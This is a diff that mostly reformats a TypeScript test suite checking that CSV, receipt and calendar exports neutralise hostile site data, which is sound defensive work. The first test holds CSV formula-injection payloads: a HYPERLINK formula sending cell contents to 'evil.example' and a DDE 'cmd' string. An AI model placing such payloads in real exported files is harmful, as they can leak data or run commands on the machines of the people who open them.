@@ -46,7 +46,7 @@ describe('exports of a hostile site', () => {
   it('every CSV cell goes through the formula guard: the currency cell too', async () => {
     const { handlers, files } = await syncedHostile((nodes) => {
       nodes[0]!.currency = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-      nodes[1]!.currency = '+cmd|\' /C calc\'!A0';
+      nodes[1]!.currency = "+cmd|' /C calc'!A0";
       nodes[2]!.currency = '@SUM(1+1)';
     });
     await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
@@ -54,7 +54,7 @@ describe('exports of a hostile site', () => {
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     // The currency is read as at most 16 characters of text (common/site-values.ts); what is left is still guarded.
     expect(rows.flat()).toContain('\'=HYPERLINK("http…');
-    expect(rows.flat()).toContain('\'@SUM(1+1)');
+    expect(rows.flat()).toContain("'@SUM(1+1)");
   });
 
   it('unknown enum values, `constructor` and `toString` among them, are written as unknown; nothing throws', async () => {
@@ -76,7 +76,10 @@ describe('exports of a hostile site', () => {
     for (const order of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
       await handlers['export:receipt']({ siteId: 'hostile', tradeNo: order.tradeNo, language: 'en' });
     }
-    const receipts = files.filter((f) => f.kind === 'receipt').map((f) => f.body).join('\n');
+    const receipts = files
+      .filter((f) => f.kind === 'receipt')
+      .map((f) => f.body)
+      .join('\n');
     expect(receipts).toContain('Unknown');
     expect(receipts).not.toMatch(/function Object|\[native code\]/);
   });
@@ -87,15 +90,23 @@ describe('exports of a hostile site', () => {
       nodes[1]!.paidAt = '-000001-01-01T00:00:00.000Z';
       nodes[2]!.createdAt = 'soon';
       // An unpaid ATM code whose deadline is beyond any calendar.
-      Object.assign(nodes[3]!, { paymentState: 'not_paid', paymentType: 'atm', codeNo: '1234', expiredAt: '+275760-09-13T00:00:00.000Z', paidAt: null });
+      Object.assign(nodes[3]!, {
+        paymentState: 'not_paid',
+        paymentType: 'atm',
+        codeNo: '1234',
+        expiredAt: '+275760-09-13T00:00:00.000Z',
+        paidAt: null,
+      });
     });
     await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
     const rows = readCsv(files[0]!.body);
     expect(rows.length).toBeGreaterThan(4);
-    expect(rows.flat()).toContain('\'+275760-09-13T00:00:00.000Z');
-    expect(rows.flat()).toContain('\'-000001-01-01T00:00:00.000Z');
+    expect(rows.flat()).toContain("'+275760-09-13T00:00:00.000Z");
+    expect(rows.flat()).toContain("'-000001-01-01T00:00:00.000Z");
     expect(rows.flat().join('\n')).not.toMatch(/1902|NaN/);
-    const odd = getOrdersPage(db, 'hostile', NOW).items.flatMap((o) => o.payments).find((p) => p.instructions?.expiredAt?.startsWith('+275760'));
+    const odd = getOrdersPage(db, 'hostile', NOW)
+      .items.flatMap((o) => o.payments)
+      .find((p) => p.instructions?.expiredAt?.startsWith('+275760'));
     expect(odd).toBeDefined();
     const failure = await handlers['calendar:payment-deadline']({ siteId: 'hostile', paymentId: odd!.paymentId, language: 'en' }).then(
       () => null,
@@ -129,7 +140,11 @@ describe('exports of a hostile site', () => {
   it('the .ics carries no U+2028, U+2029 or U+0085 of the site (written as line breaks), and no year outside 0000-9999', async () => {
     const { db, handlers, files } = await syncedHostile(
       (nodes) => {
-        Object.assign(nodes[0]!, { title: 'Line\u2028two\u2029three\u0085four\u0086', expireDate: '2026-09-30T15:59:59.000Z', hasLifetimeAccess: false });
+        Object.assign(nodes[0]!, {
+          title: 'Line\u2028two\u2029three\u0085four\u0086',
+          expireDate: '2026-09-30T15:59:59.000Z',
+          hasLifetimeAccess: false,
+        });
         Object.assign(nodes[1]!, { expireDate: '-000001-01-01T00:00:00.000Z', hasLifetimeAccess: false });
       },
       'SyncCourses',
